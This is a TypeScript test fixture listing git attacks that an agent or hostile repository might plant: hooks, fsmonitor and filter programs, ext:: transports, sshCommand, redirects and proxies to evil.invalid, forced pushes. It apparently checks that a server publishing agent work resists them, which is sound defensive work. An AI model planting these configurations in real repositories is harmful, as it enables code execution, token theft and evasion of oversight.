import { cp, mkdir, rename, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Entry } from '../workspaces/world.ts';
import type { Arena } from './git-arena.ts';

/**
 * What a repository or an agent does to make the server's git run a program, tell the token, publish what it must not,
 * or stop. None of it may come about; nothing but a few keep the honest work of the ticket from being published.
 */
export type GitAttack = {
  name: string;
  /** What the hostile repository holds before anybody has a workspace of it. */
  upstream?: readonly Entry[];
  /** What the agent does in its workspace. */
  plant?(arena: Arena): Promise<unknown> | unknown;
  /** The server refuses to go on, with this code. */
  refused?: string;
};

const HOOKS = ['pre-commit', 'prepare-commit-msg', 'commit-msg', 'post-commit', 'pre-push', 'post-merge'];
const REF_HOOKS = ['reference-transaction', 'post-index-change'];
const RELAY = 'https://github.com/';

export const GIT_ATTACKS: readonly GitAttack[] = [
  ...[...HOOKS, ...REF_HOOKS].map((hook) => ({
    name: `the hook ${hook}`,
    plant: async ({ gitDir, program }: Arena) => {
      await mkdir(join(gitDir, 'hooks'), { recursive: true });
      await symlink(program, join(gitDir, 'hooks', hook));
    },
  })),
  {
    name: 'hooks in a folder of the workspace',
    plant: async ({ config, workspace, program }) => {
      await mkdir(join(workspace, 'hooks'));
      await symlink(program, join(workspace, 'hooks/pre-commit'));
      await config('[core]\n\thooksPath = hooks');
    },
  },
  { name: 'a file system monitor', plant: ({ config, program }) => config(`[core]\n\tfsmonitor = ${program}`) },
  {
    name: 'a configuration that includes another',
    plant: async ({ config, write, program }) => {
      await write('included', `[core]\n\tfsmonitor = ${program}\n`);
      await config('[include]\n\tpath = ../included');
    },
  },
  {
    name: 'the configuration of a work tree',
    plant: async ({ config, gitDir, program }) => {
      await config('[extensions]\n\tworktreeConfig = true');
      await writeFile(join(gitDir, 'config.worktree'), `[core]\n\tfsmonitor = ${program}\n`);
    },
  },
  {
    name: 'a .git that is a link',
    plant: async ({ gitDir, outside, config, program }) => {
      await config(`[core]\n\tfsmonitor = ${program}`);
      await rename(gitDir, join(outside, 'repository'));
      await symlink(join(outside, 'repository'), gitDir);
    },
  },
  {
    name: 'a .git that names another folder',
    plant: async ({ gitDir, outside, config, program }) => {
      await config(`[core]\n\tfsmonitor = ${program}`);
      await rename(gitDir, join(outside, 'repository'));
      await writeFile(gitDir, `gitdir: ${join(outside, 'repository')}\n`);
    },
  },
  {
    name: 'a work tree elsewhere',
    plant: ({ config, outside }) => config(`[core]\n\tworktree = ${outside}`),
  },
  {
    name: 'a filter that cleans',
    plant: async ({ config, write, program }) => {
      await write('.gitattributes', '* filter=x\n');
      await config(`[filter "x"]\n\tclean = ${program}`);
    },
  },
  {
    name: 'a filter that smudges',
    plant: async ({ config, write, program }) => {
      await write('.gitattributes', '* filter=x\n');
      await config(`[filter "x"]\n\tsmudge = ${program}`);
    },
  },
  {
    name: 'a filter that is a process',
    plant: async ({ config, write, program }) => {
      await write('.gitattributes', '* filter=x\n');
      await config(`[filter "x"]\n\tprocess = ${program}`);
    },
  },
  {
    name: 'a filter of the machine, asked for by the repository',
    upstream: [{ path: '.gitattributes', content: '* filter=lfs diff=lfs merge=lfs -text\n' }],
  },
  {
    name: 'a filter of the machine, asked for by the agent',
    plant: ({ write }) => write('.gitattributes', '* filter=lfs\n'),
  },
  {
    name: 'a driver that merges',
    plant: async ({ config, write, program }) => {
      await write('.gitattributes', '* merge=x\n');
      await config(`[merge "x"]\n\tdriver = ${program} %A`);
    },
  },
  { name: 'an external diff', plant: ({ config, program }) => config(`[diff]\n\texternal = ${program}`) },
  {
    name: 'a diff that converts to text',
    plant: async ({ config, write, program }) => {
      await write('.gitattributes', '* diff=x\n');
      await config(`[diff "x"]\n\ttextconv = ${program}`);
    },
  },
  {
    name: 'a diff with a command',
    plant: async ({ config, write, program }) => {
      await write('.gitattributes', '* diff=x\n');
      await config(`[diff "x"]\n\tcommand = ${program}`);
    },
  },
  {
    name: 'a program that signs',
    plant: ({ config, program }) => config(`[commit]\n\tgpgSign = true\n[gpg]\n\tprogram = ${program}`),
  },
  {
    name: 'a program that finds the key to sign with',
    plant: ({ config, program }) =>
      config(`[commit]\n\tgpgSign = true\n[gpg]\n\tformat = ssh\n[gpg "ssh"]\n\tdefaultKeyCommand = ${program}`),
  },
  {
    name: 'a helper for credentials',
    plant: ({ config, program }) => config(`[credential]\n\thelper = ${program}`),
  },
  {
    name: 'a command for ssh',
    plant: ({ config, program }) =>
      config(`[core]\n\tsshCommand = ${program}\n[remote "origin"]\n\tpushurl = ssh://git@evil.invalid/x`),
  },
  {
    name: 'an address that becomes ssh',
    plant: ({ config, program, upstream }) =>
      config(`[core]\n\tsshCommand = ${program}\n${rewrite('ssh://git@evil.invalid/', 'insteadOf', upstream)}`),
  },
  {
    name: 'a transport that is a program',
    plant: ({ config, program }) =>
      config(`[protocol "ext"]\n\tallow = always\n[remote "origin"]\n\tpushurl = ext::${program} %S`),
  },
  {
    name: 'an address that becomes a program',
    plant: ({ config, program, upstream }) =>
      config(`[protocol "ext"]\n\tallow = always\n${rewrite(`ext::${program} `, 'insteadOf', upstream)}`),
  },
  {
    name: 'a local remote with a program that receives',
    plant: async ({ config, outside, program, git }) => {
      git('init', '--quiet', '--bare', join(outside, 'bare'));
      await config(`[remote "origin"]\n\tpushurl = ${join(outside, 'bare')}\n\treceivepack = ${program}`);
    },
  },
  {
    name: 'a command for the refs of alternates',
    plant: async ({ config, gitDir, outside, program, git }) => {
      git('clone', '--quiet', '--bare', gitDir, join(outside, 'alternate'));
      await writeFile(join(gitDir, 'objects/info/alternates'), `${join(outside, 'alternate/objects')}\n`);
      await config(`[core]\n\talternateRefsCommand = ${program}`);
    },
  },
  {
    name: 'an object that is to be fetched by a program',
    plant: async ({ config, outside, program, git }) => {
      git('init', '--quiet', '--bare', join(outside, 'promisor'));
      git('update-index', '--add', '--cacheinfo', `100644,${'1'.repeat(40)},lazy.txt`);
      await config(
        `[core]\n\trepositoryformatversion = 1\n[extensions]\n\tpartialClone = lazy\n[remote "lazy"]\n\tpromisor = true\n\turl = ${join(outside, 'promisor')}\n\tuploadpack = ${program}`,
      );
    },
  },
  {
    name: 'an address that becomes another',
    plant: ({ config, evil, upstream }) => config(rewrite(`${evil}/`, 'insteadOf', upstream)),
  },
  {
    name: 'an address that becomes another for a push',
    plant: ({ config, evil, upstream }) => config(rewrite(`${evil}/`, 'pushInsteadOf', upstream)),
  },
  {
    name: 'another address for a push',
    plant: ({ config, evil }) => config(`[remote "origin"]\n\tpushurl = ${evil}/acme/widgets.git`),
  },
  {
    name: 'another remote',
    plant: ({ git, evil }) => git('remote', 'set-url', 'origin', `${evil}/acme/widgets.git`),
  },
  { name: 'a proxy', plant: ({ config, evil }) => config(`[http]\n\tproxy = ${evil}`) },
  {
    name: 'a proxy for one address',
    plant: ({ config, evil, upstream }) =>
      config([upstream, RELAY].map((address) => `[http "${address}"]\n\tproxy = ${evil}`).join('\n')),
  },
  {
    name: 'cookies that overwrite a file',
    plant: ({ config, outside }) =>
      config(`[http]\n\tcookieFile = ${join(outside, 'secret.txt')}\n\tsaveCookies = true`),
  },
  { name: 'a push that mirrors', plant: ({ config }) => config('[remote "origin"]\n\tmirror = true') },
  {
    name: 'a push to the default branch',
    plant: ({ config, branch }) =>
      config(`[remote "origin"]\n\tpush = +refs/heads/${branch}:refs/heads/main\n\tpush = refs/heads/${branch}`),
  },
  {
    name: 'a push of tags',
    plant: async ({ config, git }) => {
      git('tag', '--annotate', '--message', 'x', 'v9');
      await config('[push]\n\tfollowTags = true');
    },
  },
  {
    name: 'a branch that is the default one',
    plant: async ({ gitDir, git, branch }) => {
      git('branch', '--quiet', '--force', 'main', branch);
      await writeFile(join(gitDir, 'HEAD'), 'ref: refs/heads/main\n');
    },
  },
  {
    name: 'another author',
    plant: ({ config }) => config('[user]\n\tname = Forged\n\temail = forged@example.org'),
  },
  { name: 'files that git is to overlook', plant: ({ gitDir }) => writeFile(join(gitDir, 'info/exclude'), '*\n') },
  {
    name: 'files that git is to take for unchanged',
    plant: ({ git }) => git('update-index', '--assume-unchanged', 'shared.txt'),
  },
  {
    name: 'files that git is to skip',
    plant: ({ git }) => git('update-index', '--skip-worktree', 'shared.txt'),
  },
  { name: 'a lock that nobody holds', plant: ({ gitDir }) => writeFile(join(gitDir, 'index.lock'), '') },
  {
    name: 'an encoding that no file has',
    plant: ({ write }) => write('.gitattributes', '* working-tree-encoding=UTF-32\n'),
  },
  {
    name: 'a repository in the workspace that the index names',
    plant: async (arena) => {
      await nestedRepository(arena, 'nested');
      arena.git('-c', 'advice.addEmbeddedRepo=false', 'add', 'nested');
      await hostileConfig(arena, 'nested');
      await arena.write('nested/made.txt', 'made\n');
    },
  },
  {
    name: 'a repository in a repository in the workspace',
    plant: async (arena) => {
      await nestedRepository(arena, 'nested');
      await nestedRepository(arena, 'nested/inner');
      await hostileConfig(arena, 'nested/inner');
      arena.git('-C', 'nested', '-c', 'advice.addEmbeddedRepo=false', 'add', 'inner');
      arena.git('-c', 'advice.addEmbeddedRepo=false', 'add', 'nested');
      await hostileConfig(arena, 'nested');
    },
  },
  {
    name: 'a repository in the place of a submodule',
    upstream: [
      { path: '.gitmodules', content: '[submodule "sub"]\n\tpath = sub\n\turl = https://evil.invalid/sub\n' },
      { path: 'sub', mode: '160000', content: '2'.repeat(40) },
    ],
    plant: async (arena) => {
      await nestedRepository(arena, 'sub');
      await hostileConfig(arena, 'sub');
      await arena.write('sub/.gitattributes', '* filter=x\n');
      await arena.write('sub/file.txt', 'changed\n');
    },
  },
  {
    name: 'a workspace that is a link',
    plant: async ({ workspace, gitDir, outside }) => {
      await cp(gitDir, join(outside, '.git'), { recursive: true });
      await rename(workspace, `${workspace}.moved`);
      await symlink(outside, workspace);
    },
    refused: 'workspace_tampered',
  },
  {
    name: 'names that some file systems take for .git',
    plant: async ({ write, program }) => {
      for (const folder of ['.GIT', 'git~1', '.g\u200cit', '.git ', '.git.']) {
        await write(`${folder}/config`, `[core]\n\tfsmonitor = ${program}\n`);
      }
    },
  },
];

function rewrite(to: string, kind: 'insteadOf' | 'pushInsteadOf', upstream: string): string {
  return `[url "${to}"]\n\t${kind} = ${upstream}/\n\t${kind} = ${RELAY}`;
}

/** A repository of its own with one commit, in a folder of the workspace. */
async function nestedRepository({ git, write }: Arena, folder: string): Promise<void> {
  await write(`${folder}/file.txt`, 'file\n');
  git('init', '--quiet', folder);
  git('-C', folder, 'add', 'file.txt');
  git('-C', folder, 'commit', '--quiet', '--message', 'x');
}

async function hostileConfig({ workspace, program, git }: Arena, folder: string): Promise<void> {
  git('-C', folder, 'config', 'filter.x.clean', program);
  await writeFile(join(workspace, folder, '.gitattributes'), '* filter=x\n');
  git('-C', folder, 'config', 'core.fsmonitor', program);
}
